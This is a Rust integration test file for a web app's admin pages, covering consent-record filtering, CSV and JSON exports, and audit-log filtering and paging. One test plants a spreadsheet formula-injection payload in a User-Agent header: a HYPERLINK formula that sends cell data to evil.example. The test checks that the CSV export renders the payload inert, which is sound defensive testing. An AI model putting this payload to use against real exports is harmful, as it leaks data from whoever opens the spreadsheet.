//! What admins read, on both backends: the consent records with their filter, totals and
//! streamed exports, and the audit log with its filter.

use crate::{
    editor::{location, signed_in},
    helpers::{Backend, TestApp, both_backends, spawn_app},
};
use app::{
    admin::Role,
    audit::{
        AUDIT_PAGE_SIZE, AuditAction,
        ssr::{Actor, record_alone},
    },
};
use reqwest::{StatusCode, header};
use serde_json::json;

both_backends!(
    admins_filter_count_and_export_consent_records,
    a_formula_in_a_user_agent_is_inert_in_the_csv_and_exact_in_the_json,
    the_audit_log_filters_by_action_actor_and_day,
);

/// Records one consent choice through the public API, as a visitor's browser would.
async fn consent(app: &TestApp, method: &str, analytics: bool, key: &str) {
    let version = app.configuration_version().await;
    let response = app
        .client
        .post(app.url("/api/consent"))
        .json(&json!({
            "method": method,
            "choices": { "analytics": analytics, "marketing": false, "preferences": false },
            "configuration_version": version,
            "idempotency_key": key,
            "locale": "en",
        }))
        .send()
        .await
        .expect("request");
    assert_eq!(response.status(), StatusCode::CREATED);
}

async fn admins_filter_count_and_export_consent_records(backend: Backend) {
    let app = spawn_app(backend).await;
    consent(&app, "custom", true, "records-0001").await;
    consent(&app, "custom", false, "records-0002").await;
    consent(&app, "reject_all", false, "records-0003").await;
    let admin = signed_in(&app, "ada@example.com", Role::Admin).await;

    let (status, page) = admin.get(&app, "/admin/consent").await;
    assert_eq!(status, StatusCode::OK);
    assert!(page.contains("3 consent events match"), "{page}");
    assert!(
        page.contains("analytics") && page.contains("1 (33.3 %)") && page.contains("2 (66.7 %)"),
        "totals per category: {page}"
    );
    let (_, page) = admin.get(&app, "/admin/consent?method=custom").await;
    assert!(page.contains("2 consent events match"), "{page}");
    let today = app::clock::Timestamp::now().rfc3339()[..10].to_owned();
    let (_, page) = admin
        .get(&app, &format!("/admin/consent?from={today}&to={today}"))
        .await;
    assert!(page.contains("3 consent events match"), "{page}");
    let (_, page) = admin.get(&app, "/admin/consent?to=2000-01-01").await;
    assert!(page.contains("0 consent events match"), "{page}");

    let (status, page) = admin.get(&app, "/admin/consent?method=telepathy").await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(page.contains("unknown method `telepathy`"), "{page}");
    let (status, page) = admin.get(&app, "/admin/consent?from=last+week").await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(page.contains("is not a date"), "{page}");

    let export = |path: &str| {
        app.client
            .get(app.url(path))
            .header(header::COOKIE, &admin.cookie)
            .send()
    };
    let response = export("/admin/consent/export?format=csv&method=custom")
        .await
        .expect("request");
    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(
        response.headers()[header::CONTENT_TYPE],
        "text/csv; charset=utf-8"
    );
    assert!(
        response.headers()[header::CONTENT_DISPOSITION]
            .to_str()
            .expect("ascii")
            .contains("consent-records.csv")
    );
    let csv = response.text().await.expect("body");
    let lines: Vec<_> = csv.lines().collect();
    assert_eq!(lines.len(), 3, "a header and two events: {csv}");
    assert!(lines[0].starts_with("id,recorded_at,subject_id,action,method"));
    assert!(lines[1].contains("records-0001") && lines[2].contains("records-0002"));

    let response = export("/admin/consent/export?format=json&action=deny")
        .await
        .expect("request");
    assert_eq!(response.status(), StatusCode::OK);
    let events: Vec<serde_json::Value> = response.json().await.expect("a JSON array");
    let keys: Vec<_> = events
        .iter()
        .map(|event| event["idempotency_key"].as_str().unwrap_or_default())
        .collect();
    assert_eq!(keys, ["records-0002", "records-0003"]);
    assert_eq!(events[0]["choices"]["analytics"], false);

    let response = export("/admin/consent/export?format=xml")
        .await
        .expect("request");
    assert_eq!(response.status(), StatusCode::BAD_REQUEST);
    assert!(response.text().await.expect("body").contains("format=csv"));
    let response = export("/admin/consent/export?format=csv&action=maybe")
        .await
        .expect("request");
    assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY);

    let stranger = app
        .client
        .get(app.url("/admin/consent/export?format=csv"))
        .send()
        .await
        .expect("request");
    assert_eq!(stranger.status(), StatusCode::SEE_OTHER);
    assert!(location(&stranger).starts_with("/admin/sign-in?return_to=%2Fadmin%2Fconsent"));

    let exports: Vec<(String, String)> = sqlx::query_as(
        "SELECT actor, detail FROM audit_log WHERE action = 'export_made' ORDER BY id",
    )
    .fetch_all(app.db.reader())
    .await
    .expect("audit");
    assert_eq!(
        exports.len(),
        2,
        "each export made is recorded: {exports:?}"
    );
    assert_eq!(exports[0].0, "ada@example.com");
    assert!(
        exports[0].1.starts_with("csv, ") && exports[0].1.contains("method custom"),
        "{exports:?}"
    );
    assert!(exports[1].1.contains("action deny"), "{exports:?}");
}

/// A visitor's `User-Agent` is kept as evidence; opened in a spreadsheet, the CSV must show it
/// as text, not run it as a formula. The JSON keeps it exactly, and both keep milliseconds.
async fn a_formula_in_a_user_agent_is_inert_in_the_csv_and_exact_in_the_json(backend: Backend) {
    let app = spawn_app(backend).await;
    let formula = r#"=HYPERLINK("https://evil.example/?d="&A1,"Click me")"#;
    let version = app.configuration_version().await;
    let response = app
        .client
        .post(app.url("/api/consent"))
        .header(header::USER_AGENT, formula)
        .json(&json!({
            "method": "accept_all",
            "choices": { "analytics": true, "marketing": true, "preferences": true },
            "configuration_version": version,
            "idempotency_key": "formula-0001",
            "locale": "en",
        }))
        .send()
        .await
        .expect("request");
    assert_eq!(response.status(), StatusCode::CREATED);
    let admin = signed_in(&app, "ada@example.com", Role::Admin).await;
    let export = |format: &str| {
        app.client
            .get(app.url(&format!("/admin/consent/export?format={format}")))
            .header(header::COOKIE, &admin.cookie)
            .send()
    };

    let csv = export("csv")
        .await
        .expect("request")
        .text()
        .await
        .expect("body");
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let headers = reader.headers().expect("a header row").clone();
    let column = |name: &str| {
        headers
            .iter()
            .position(|header| header == name)
            .expect("a column")
    };
    let row = reader
        .records()
        .next()
        .expect("one event")
        .expect("a record");
    assert_eq!(row[column("user_agent")], format!("'{formula}"), "{csv}");
    // Where the choice was made, which the chain hashes too.
    assert_eq!(row[column("site")], app.address, "{csv}");
    let recorded_at = &row[column("recorded_at")];
    assert!(
        recorded_at.len() == "2026-11-23T04:00:00.123Z".len()
            && recorded_at.as_bytes()[19] == b'.'
            && recorded_at.ends_with('Z'),
        "milliseconds are kept: {recorded_at}"
    );

    let events: Vec<serde_json::Value> = export("json")
        .await
        .expect("request")
        .json()
        .await
        .expect("a JSON array");
    assert_eq!(events[0]["user_agent"], formula);
    let millis = events[0]["recorded_at"].as_i64().expect("milliseconds");
    assert_eq!(
        app::clock::Timestamp::from_millis(millis).rfc3339_millis(),
        recorded_at,
        "the CSV's time is the JSON's"
    );
}

async fn the_audit_log_filters_by_action_actor_and_day(backend: Backend) {
    let app = spawn_app(backend).await;
    let admin = signed_in(&app, "ada@example.com", Role::Admin).await;
    signed_in(&app, "eve@example.com", Role::Editor).await;
    let response = admin
        .post(&app, "/admin/settings", &[("notice_days", "21")])
        .await;
    assert_eq!(response.status(), StatusCode::SEE_OTHER);

    let (status, page) = admin.get(&app, "/admin/audit").await;
    assert_eq!(status, StatusCode::OK);
    for action in ["sign_in", "settings_changed", "inventory_changed"] {
        assert!(page.contains(&format!("<code>{action}</code>")), "{page}");
    }
    assert!(page.contains("30 → 21 days"), "details are shown: {page}");

    let (_, page) = admin.get(&app, "/admin/audit?action=sign_in").await;
    assert_eq!(page.matches("<code>sign_in</code>").count(), 2, "{page}");
    assert!(!page.contains("<code>settings_changed</code>"), "{page}");
    let (_, page) = admin
        .get(&app, "/admin/audit?action=sign_in&actor=EVE%40")
        .await;
    assert_eq!(page.matches("<code>sign_in</code>").count(), 1, "{page}");
    assert!(page.contains("eve@example.com"), "{page}");
    let (_, page) = admin.get(&app, "/admin/audit?actor=100%25").await;
    assert!(
        page.contains("No entries match"),
        "wildcards are literal: {page}"
    );
    let (_, page) = admin.get(&app, "/admin/audit?from=2999-01-01").await;
    assert!(page.contains("No entries match"), "{page}");

    let (status, page) = admin.get(&app, "/admin/audit?action=rm_rf").await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(page.contains("unknown audit action"), "{page}");
    let (status, _) = admin
        .get(&app, "/admin/audit?from=2026-11-30&to=2026-11-01")
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);

    let editor = signed_in(&app, "eve2@example.com", Role::Editor).await;
    let (status, _) = editor.get(&app, "/admin/audit").await;
    assert_eq!(status, StatusCode::FORBIDDEN);

    let operator = Actor::local("test", "paging");
    for n in 0..AUDIT_PAGE_SIZE {
        record_alone(
            &app.db,
            &operator,
            AuditAction::DraftSaved,
            &format!("draft {n}"),
            "",
        )
        .await
        .expect("recorded");
    }
    let (_, first) = admin.get(&app, "/admin/audit").await;
    assert!(
        first.contains("draft 99") && !first.contains("<code>sign_in</code>"),
        "{first}"
    );
    let start = first
        .find("href=\"/admin/audit?")
        .expect("a link to older entries")
        + 6;
    let older = first[start..]
        .split('"')
        .next()
        .expect("href")
        .replace("&amp;", "&");
    let (_, second) = admin.get(&app, &older).await;
    assert!(second.contains("<code>sign_in</code>"), "{second}");
    assert!(!second.contains("draft 99"), "{second}");
}
